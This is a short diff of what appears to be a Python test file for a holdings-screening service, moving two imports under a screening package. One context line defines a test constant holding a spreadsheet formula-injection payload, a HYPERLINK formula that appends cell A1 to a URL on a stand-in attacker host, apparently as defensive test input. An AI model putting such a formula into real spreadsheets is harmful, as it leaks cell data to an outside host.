@@ -11,8 +11,8 @@ from python_calamine import CalamineWorkbook
 from service.bootstrap import Services, start
 from service.config import Settings
 from service.domain.moments import Moment
-from service.intake import HoldingsFile
-from service.screener import ScreeningRequest
+from service.screening.intake import HoldingsFile
+from service.screening.screener import ScreeningRequest
 
 NOW = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
 HARM = '=HYPERLINK("http://evil.example/?"&A1) HIKVISION'
